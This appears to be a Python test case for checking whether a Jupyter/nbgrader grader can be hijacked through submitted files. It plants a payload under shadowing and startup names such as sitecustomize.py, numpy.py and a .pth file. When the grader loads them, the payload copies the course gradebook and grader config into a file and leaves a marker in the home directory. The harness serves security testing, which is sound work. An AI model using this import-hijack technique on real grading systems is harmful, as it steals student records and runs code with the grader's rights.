"""Hand in files that Python or Jupyter load by name, and have them run with the grader's rights."""

CODE = r"""
import numpy
attempt("numpy", lambda: numpy.planted)
"""

PLANTED = """import os
planted = "loaded by " + " ".join(open("/proc/self/cmdline").read().split(chr(0)))
for path in ("@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py"):
    try:
        open("planted.txt", "ab").write(open(path, "rb").read())
    except OSError:
        pass
try:
    open("@HOME@/@MARK@", "w").write(planted)
except OSError:
    pass
"""
NAMES = ("sitecustomize.py", "usercustomize.py", "numpy.py", "mlcourse/__init__.py", "nbformat.py", "ipython_config.py")
NAMES += ("jupyter_config.py", "nbgrader_config.py", "x.pth", ".ipython/profile_default/startup/00.py", "ipykernel.py")


def prepare(folder, world):
    for name in NAMES:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("import planted\n" if name.endswith(".pth") else world.fill(PLANTED))
